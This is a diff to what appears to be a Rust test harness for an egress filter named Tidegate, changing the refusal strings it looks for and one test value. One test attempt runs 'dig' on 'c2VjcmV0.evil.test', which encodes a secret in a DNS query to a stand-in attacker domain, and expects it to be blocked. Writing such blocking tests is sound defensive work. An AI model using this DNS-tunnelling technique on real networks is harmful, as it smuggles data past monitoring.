@@ -80,7 +80,7 @@ impl Attempt {
 fn telling_line(output: &Output, proof: &str) -> String {
     let text = format!("{}\n{}", output.text(), output.errors());
     let lines: Vec<&str> = text.lines().map(str::trim).filter(|line| !line.is_empty()).collect();
-    let signs = [proof, "EDE", "refused", "alert", "Could not resolve", "NXDOMAIN", "not "];
+    let signs = [proof, "EDE", "Tidegate refused", "refused", "alert", "Could not resolve", "NXDOMAIN", "not "];
     let found = signs.iter().find_map(|sign| lines.iter().find(|line| line.contains(sign)));
     let line = found.or(lines.last()).copied().unwrap_or("(no output)");
     line.chars().take(90).collect()
@@ -126,7 +126,7 @@ fn build_job(lab: &Lab) -> Vec<Attempt> {
         Attempt {
             expect: refused,
             kind: "dns",
-            value: "c2VjcmV0.evil.test",
+            value: "c2vjcmv0.evil.test",
             ..attempt("a secret in a DNS query", &["dig", "+tries=1", "c2VjcmV0.evil.test"], "ANSWER SECTION")
         },
         Attempt {
